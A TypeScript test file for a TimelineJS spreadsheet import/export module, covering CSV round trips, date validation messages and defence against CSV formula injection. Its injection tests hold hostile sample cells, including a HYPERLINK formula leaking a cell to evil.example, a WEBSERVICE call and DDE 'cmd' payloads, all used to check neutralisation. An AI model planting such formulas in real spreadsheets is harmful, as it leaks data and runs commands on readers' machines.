import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { DataError } from '../timeline/problems';
import type { Timeline } from '../timeline/types';
import { neutraliseCell, restoreCell } from './formula-cells';
import { textToHtml } from './html-text';
import { exportSheet, importSheet, SHEET_COLUMNS } from './sheet';
import { exportTimelineJs, importTimelineJs } from './timelinejs';

const csv = readFileSync(new URL('./fixtures/newsroom-sheet.csv', import.meta.url), 'utf8');
const options = { slug: 'bounties', published: '2026-12-04', file: 'sheet.csv' };
/** A cell a spreadsheet would run: = + - @ tab CR first, unless the cell is a plain number. */
const LIVE_FORMULA = /^[=@\t\r]|^[+-](?!(\d+(\.\d*)?|\.\d+)$)/;
const rowsOf = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: 'greedy' }).data;

describe('TimelineJS Google Sheets CSV', () => {
	const { timeline } = importSheet(csv, options);

	it('reads the title slide, eras and events from the template columns', () => {
		expect(timeline.title).toBe('Bounty program begins');
		expect(timeline.events.map((e) => e.title)).toEqual([
			'Bounties offered',
			'Trump briefed',
			'Report published',
			'Caesar assassinated'
		]);
		const [offered, briefed, report, caesar] = timeline.events;
		expect(offered!.start).toMatchObject({ value: '2019-04', precision: 'month' });
		expect(offered!.summary).toBe(
			'A Russian military intelligence unit offered bounties, officials said. A second paragraph, inside the same cell.'
		);
		expect(briefed!.start).toMatchObject({ value: '2020-03-21', text: 'late March 2020' });
		expect(briefed!.end).toMatchObject({ value: '2020-03-31' });
		expect(report!.start).toMatchObject({ value: '2020-06-26T21:30', precision: 'time' });
		expect(caesar!.start).toMatchObject({ value: 'BC0044-03-15', text: 'Ides of March' });
		const tjs = exportTimelineJs(timeline);
		expect(tjs.eras).toEqual([
			{ start_date: { year: 2016 }, end_date: { year: 2018 }, text: { headline: 'Talks stall' } }
		]);
		expect(tjs.events[0]).toMatchObject({
			media: {
				url: 'https://example.org/photo.jpg',
				credit: 'Reuters',
				caption: 'Troops in Helmand, April 2019',
				thumbnail: 'https://example.org/thumb.jpg'
			},
			group: 'Intelligence',
			background: { url: 'https://example.org/bg.jpg' }
		});
		expect(tjs.events[1]!.background).toEqual({ color: '#8BB1C4' });
	});

	it('writes the same cells back, extra columns included, when nothing was edited', () => {
		expect(rowsOf(exportSheet(timeline))).toEqual(rowsOf(csv));
	});

	it('writes an edited row from its new values and keeps the columns Dateline does not use', () => {
		const edited: Timeline = structuredClone(timeline);
		edited.events[0]!.title = 'Bounties first offered';
		const rows = rowsOf(exportSheet(edited));
		const header = rows[0]!;
		const row = rows[3]!;
		expect(row[header.indexOf('Headline')]).toBe('Bounties first offered');
		expect(row[header.indexOf('Notes')]).toBe('checked by desk');
		expect(row[header.indexOf('Media Credit')]).toBe('Reuters');
	});

	it('turns a TimelineJS JSON timeline into a sheet and back', () => {
		const doc = exportTimelineJs(timeline);
		const fromJson = importTimelineJs(JSON.parse(JSON.stringify(doc)), options).timeline;
		const again = importSheet(exportSheet(fromJson), options).timeline;
		expect(exportTimelineJs(again).events.map((e) => e.text)).toEqual(
			doc.events.map((e) => e.text)
		);
		expect(again.events.map((e) => e.start.value)).toEqual(
			timeline.events.map((e) => e.start.value)
		);
	});

	it('names the row, as the spreadsheet numbers it, and the column of every problem', () => {
		const bad = [
			'Year,Month,Day,Time,Headline',
			'2020,13,,,Bad month',
			',,,,No year',
			'2020,2,30,,No such day',
			'2020,1,1,25:99,Bad time',
			'2020,1,1,noon-ish,Not a time',
			'x,,,,Not a year'
		].join('\n');
		let error: DataError | undefined;
		try {
			importSheet(bad, options);
		} catch (e) {
			error = e as DataError;
		}
		expect(error?.problems.map((p) => `${p.where}: ${p.message}`)).toEqual([
			'sheet.csv: row 2: Month: 13 is out of range (1–12)',
			'sheet.csv: row 3: Year: empty; every event needs a year',
			'sheet.csv: row 4: Day: February has no day 30',
			'sheet.csv: row 5: Time: 25 is out of range (0–23)',
			'sheet.csv: row 5: Time: 99 is out of range (0–59)',
			'sheet.csv: row 6: Time: "noon-ish" is not a time; write it as 21:30, 21:30:15 or 9:30 PM',
			'sheet.csv: row 7: Year: "x" is not a whole number'
		]);
		expect(() => importSheet('Headline,Text\nA,B\n', options)).toThrow(/row 1: no "Year" column/);
	});
});

// A hundred generated sheets: seconds of CPU on a loaded machine, hence the timeout.
describe('sheet round trip (property)', () => {
	// Words without markup (markup is made safe on export, see safe-html.test.ts), formulas
	// and minus signs first among them.
	const words = fc.string().filter((s) => !s.includes('<'));
	const cell = fc.oneof(
		words,
		words.map((s) => `=${s}`),
		fc.constantFrom(
			'a, "quoted" cell',
			'two\nlines',
			'<b>bold</b>',
			'-1+1',
			"'=x",
			"''@x",
			'@SUM(A1)'
		)
	);
	const row = fc.record({
		Year: fc
			.integer({ min: -3000, max: 2100 })
			.filter((y) => y !== 0)
			.map(String),
		Month: fc.option(fc.integer({ min: 1, max: 12 }).map(String), { nil: '' }),
		Headline: cell.filter((s) => s.trim() !== ''),
		Text: cell,
		Media: fc.option(fc.webUrl(), { nil: '' }),
		'Media Credit': cell,
		// A group is words to TimelineJS, which strips markup from it; so does the export.
		Group: words,
		Notes: cell
	});
	it('any sheet of events comes back cell for cell, and no cell of it runs as a formula', () => {
		fc.assert(
			fc.property(fc.array(row, { minLength: 1, maxLength: 6 }), (rows) => {
				const columns = [...SHEET_COLUMNS, 'Notes'];
				const text = Papa.unparse([
					columns,
					...rows.map((r) => columns.map((c) => (r as Record<string, string>)[c] ?? ''))
				]);
				const { timeline } = importSheet(text, options);
				const out = rowsOf(exportSheet(timeline));
				for (const c of out.flat()) expect(c).not.toMatch(LIVE_FORMULA);
				// A cell written "'=x" by hand reads as "=x", as our own export's would.
				const read = rowsOf(text).map((r) => r.map(restoreCell));
				expect(out.map((r) => r.map(restoreCell))).toEqual(read);
				expect(importSheet(exportSheet(timeline), options).timeline.events).toEqual(
					timeline.events
				);
			}),
			{ numRuns: 100 }
		);
	}, 60_000);
});

describe('formulas in a sheet (CSV injection)', () => {
	const hostile: Timeline = structuredClone(importSheet(csv, options).timeline);
	hostile.title = '=HYPERLINK("https://evil.example/?"&A1,"Click for the full story")';
	hostile.events[0]!.title = "+cmd|' /C calc'!A0";
	hostile.events[0]!.summary = "-2+3+cmd|' /C calc'!A0";
	hostile.events[1]!.title = "@SUM(1+1)*cmd|' /C calc'!A0";
	// Columns Dateline keeps without reading them go out as they came in, tabs and all.
	const notes = ['\t=1+1', '\r=1+1', '=WEBSERVICE("https://evil.example")'];
	notes.forEach((note, i) => {
		hostile.events[i]!.extra = {
			...hostile.events[i]!.extra,
			csv: { ...(hostile.events[i]!.extra!.csv as object), Notes: note }
		};
	});
	const written = exportSheet(hostile);
	const cells = rowsOf(written);
	const column = (name: string) => cells.map((r) => r[cells[0]!.indexOf(name)]!);

	it('writes every cell quoted, and a cell starting with = + - @ tab or CR after a single quote', () => {
		expect(written.split('\r\n')[0]).toBe(
			[...SHEET_COLUMNS, 'Notes'].map((c) => `"${c}"`).join(',')
		);
		expect(column('Headline')).toContain(`'${textToHtml(hostile.title)}`);
		expect(column('Headline')).toContain(`'${hostile.events[0]!.title}`);
		expect(column('Text')).toContain(`'${hostile.events[0]!.summary}`);
		expect(column('Headline')).toContain(`'${hostile.events[1]!.title}`);
		expect(column('Notes').slice(-4, -1)).toEqual(notes.map((n) => `'${n}`));
		for (const c of cells.flat()) expect(c).not.toMatch(LIVE_FORMULA);
		// A BC year is a number, not a formula: TimelineJS must still read -44 as one.
		expect(column('Year')).toContain('-44');
	});

	it('reads its own export back with the words as they were', () => {
		const again = importSheet(written, options).timeline;
		expect(again.title).toBe(hostile.title);
		expect(again.events.map((e) => [e.title, e.summary])).toEqual(
			hostile.events.map((e) => [e.title, e.summary])
		);
		expect(again.events.map((e) => (e.extra!.csv as Record<string, string>).Notes)).toEqual([
			...notes,
			undefined
		]);
	});

	it.each([
		['=1+1', "'=1+1"],
		['+1 in the polls', "'+1 in the polls"],
		['-', "'-"],
		['-2+3', "'-2+3"],
		['@SUM(A1)', "'@SUM(A1)"],
		['\tindented', "'\tindented"],
		['\r=1', "'\r=1"],
		['-44', '-44'],
		['+3.5', '+3.5'],
		["'=1+1", "''=1+1"],
		["'quoted", "'quoted"],
		['Judge rules', 'Judge rules'],
		['', '']
	])('%j is written %j and read back as it was', (cell, written) => {
		expect(neutraliseCell(cell)).toBe(written);
		expect(restoreCell(written)).toBe(cell);
	});
});

describe('TimelineJS sheets as people write them (fixtures/wild)', () => {
	const wild = (name: string) =>
		readFileSync(new URL(`./fixtures/wild/${name}`, import.meta.url), 'utf8');
	const problemsOf = (text: string, file: string) => {
		try {
			importSheet(text, { published: '2026-12-05', file });
		} catch (e) {
			return (e as DataError).problems.map((p) => `${p.where}: ${p.message}`);
		}
		return [];
	};

	it('reads a time whose seconds have one digit ("05:00:0")', () => {
		const title = wild('nyt-articles-generated.csv').split('\n').slice(0, 2).join('\n');
		const row = '2017,01,20,05:00:0,2017,01,20,05:00:0,,Trump Is Sworn In,"Oath taken.",,,,,,,';
		const { timeline } = importSheet(`${title}\n${row}\n`, { published: '2026-12-05' });
		expect(timeline.events[0]!.start).toMatchObject({
			value: '2017-01-20T05:00:00',
			precision: 'time'
		});
	});

	it('says once, in words, that a quoted cell goes on after its quote', () => {
		expect(problemsOf(wild('nyt-articles-generated.csv'), 'nyt.csv')).toEqual([
			'nyt.csv: row 3: a cell opens with a quote but goes on after its closing quote; put the whole cell inside the quotes, doubling any quote in it ("")'
		]);
	});

	it('gives one line for a row that lost cells, naming where the shift shows', () => {
		const problems = problemsOf(wild('indian-art-shifted.csv'), 'art.csv');
		expect(problems).toHaveLength(5);
		expect(problems[0]).toBe(
			'art.csv: row 2: End Time: "The Great Boar (Animal Procession)" is not a time; write it as 21:30, 21:30:15 or 9:30 PM; this row has 16 cells where the first row names 18 columns, so cells are missing before this one and the ones after them sit under the wrong columns'
		);
	});

	it('writes display_date kept inside start_date as the Display Date column', () => {
		const doc = {
			events: [
				{ start_date: { year: '2002', month: '4', day: '15', display_date: '15 avril 2002' } }
			]
		};
		const timeline = importTimelineJs(doc, { published: '2026-12-05' }).timeline;
		const [, row] = rowsOf(exportSheet(timeline));
		expect(row![SHEET_COLUMNS.indexOf('Display Date')]).toBe('15 avril 2002');
	});
});
